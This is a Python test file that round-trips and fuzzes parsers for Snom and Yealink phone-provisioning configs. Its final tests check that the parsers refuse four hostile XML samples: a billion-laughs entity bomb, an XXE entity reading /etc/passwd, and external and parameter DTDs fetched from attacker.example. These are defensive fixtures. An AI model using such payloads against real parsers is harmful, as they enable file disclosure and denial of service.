"""Round trips and fuzzing of the three parsers: only ParseError may ever come out."""

from __future__ import annotations

import string

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from compass_desk.domain.provisioning import ParseError, parse_bytes, parse_text
from compass_desk.domain.provisioning.model import Setting
from compass_desk.domain.provisioning.secrets import mask_text
from compass_desk.domain.provisioning.snom_text import parse_snom_text, render_snom_text
from compass_desk.domain.provisioning.snom_xml import parse_snom_xml, render_snom_xml
from compass_desk.domain.provisioning.validate import check, validate
from compass_desk.domain.provisioning.yealink_cfg import parse_yealink_cfg, render_yealink_cfg

FAST = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])

_name_start = string.ascii_letters + "_"
names = st.builds(lambda a, b: a + b, st.sampled_from(_name_start),
                  st.text(string.ascii_letters + string.digits + "_", max_size=20))
dotted = st.lists(names, min_size=1, max_size=4).map(".".join)
# XML 1.0 characters, without lone surrogates; values are what a phone setting could hold.
xml_chars = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\r",
                          min_codepoint=0x09).filter(lambda c: c in "\t\n" or ord(c) >= 0x20)
xml_values = st.text(xml_chars, max_size=40).filter(lambda v: "\ufffe" not in v and "\uffff" not in v)
line_values = st.text(st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")), max_size=40)


@st.composite
def snom_xml_settings(draw):
    count = draw(st.integers(0, 12))
    result = []
    for line in range(count):
        section = draw(st.sampled_from(["phone-settings", "functionKeys", "firmware-settings"]))
        attrs = tuple(draw(st.dictionaries(st.sampled_from(["context", "label", "action"]), xml_values,
                                           max_size=2)).items())
        result.append(Setting(
            name=draw(names.filter(lambda n: n not in {"phone-settings", "functionKeys"})),
            value=draw(xml_values), line=line, section=section,
            index=draw(st.none() | st.integers(0, 99).map(str)),
            permission=draw(st.none() | st.sampled_from(["R", "RW", "!", "&", "$", "", " ", "V"])),
            attributes=attrs,
        ))
    return result


def _essentials(settings):
    return [(s.section, s.name, s.value, s.index, s.permission, s.attributes) for s in settings]


@FAST
@given(snom_xml_settings())
def test_snom_xml_round_trip(settings_in):
    text = render_snom_xml(settings_in)
    parsed = parse_snom_xml(text)
    # Sections are grouped on writing; compare per section in order.
    expected = sorted(_essentials(settings_in), key=lambda e: [s.section for s in settings_in].index(e[0]))
    assert _essentials(parsed.settings) == expected
    for setting in parsed.settings:
        assert f"<{setting.name}" in parsed.lines[setting.line - 1]


@FAST
@given(st.lists(st.tuples(names, st.sampled_from(["", "!", "&", "$"]), line_values), max_size=15),
       st.booleans())
def test_snom_text_round_trip(rows, html):
    settings_in = [Setting(n, v, i + 1, permission=p or None) for i, (n, p, v) in enumerate(rows)]
    parsed = parse_snom_text(render_snom_text(settings_in, html=html))
    assert parsed.problems == ()
    assert [(s.name, s.permission, s.value) for s in parsed.settings] == [
        (s.name, s.permission, s.value) for s in settings_in
    ]


@FAST
@given(st.lists(st.tuples(dotted, line_values.map(lambda v: v.strip(" \t"))), max_size=15))
def test_yealink_round_trip(rows):
    settings_in = [Setting(k, v, i + 2) for i, (k, v) in enumerate(rows)]
    parsed = parse_yealink_cfg(render_yealink_cfg(settings_in))
    assert parsed.problems == ()
    expected = [(s.name, s.value, s.line) for s in settings_in]
    assert [(s.name, s.value, s.line) for s in parsed.settings] == expected


def _no_crash(call):
    try:
        return call()
    except ParseError as exc:
        assert exc.message
        return None


@FAST
@given(st.text(max_size=300))
def test_text_fuzz_any_parser_only_raises_parse_error(text):
    for parser in (parse_snom_xml, parse_snom_text, parse_yealink_cfg):
        parsed = _no_crash(lambda p=parser: p(text))
        if parsed is not None:
            mask_text(parsed)
            validate(parsed)
    _no_crash(lambda: parse_text(text))
    check(text)


@FAST
@given(st.binary(max_size=400), st.sampled_from([None, "a.xml", "a.cfg", "a.htm"]))
def test_binary_fuzz_only_raises_parse_error(data, filename):
    _no_crash(lambda: parse_bytes(data, filename))
    result = check(data, filename)
    assert result.parsed is not None or result.has_errors


xml_fragments = st.lists(st.sampled_from([
    "<settings>", "</settings>", "<phone-settings>", "</phone-settings>", "<a idx=\"1\" perm=\"R\">",
    "</a>", "<b/>", "x", "&amp;", "&bogus;", "<!-- c -->", "<![CDATA[y]]>", "\n", "<?xml version=\"1.0\"?>",
    "<!DOCTYPE settings>", "<", ">", "\"", "<user_pass>", "</user_pass>", "secret",
]), max_size=30).map("".join)


@FAST
@given(xml_fragments)
def test_xml_fragment_fuzz(text):
    parsed = _no_crash(lambda: parse_snom_xml(text))
    if parsed is not None:
        masked = mask_text(parsed)
        assert len(masked.splitlines()) == len(text.splitlines())


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<settings><phone-settings><user_name>&lol4;</user_name></phone-settings></settings>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE settings [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<settings><phone-settings><user_name>&xxe;</user_name></phone-settings></settings>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE settings SYSTEM "http://attacker.example/evil.dtd">
<settings><phone-settings><user_name>x</user_name></phone-settings></settings>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE settings [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<settings/>
"""


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_xml_bombs_and_external_entities_are_refused(text):
    with pytest.raises(ParseError) as info:
        parse_text(text, "bomb.xml")
    assert "refused for safety" in info.value.message
    assert "Forbidden" not in info.value.message  # a plain sentence, not defusedxml's class name
    result = check(text.encode(), "bomb.xml")
    assert result.parsed is None and result.has_errors


def test_quadratic_blowup_without_dtd_is_only_a_big_file():
    # Without entities there is nothing to expand; a large attribute is just text under the size limit.
    text = "<settings><phone-settings><a>" + "x" * 1_000_000 + "</a></phone-settings></settings>"
    parsed = parse_text(text)
    assert len(parsed.settings[0].value) == 1_000_000
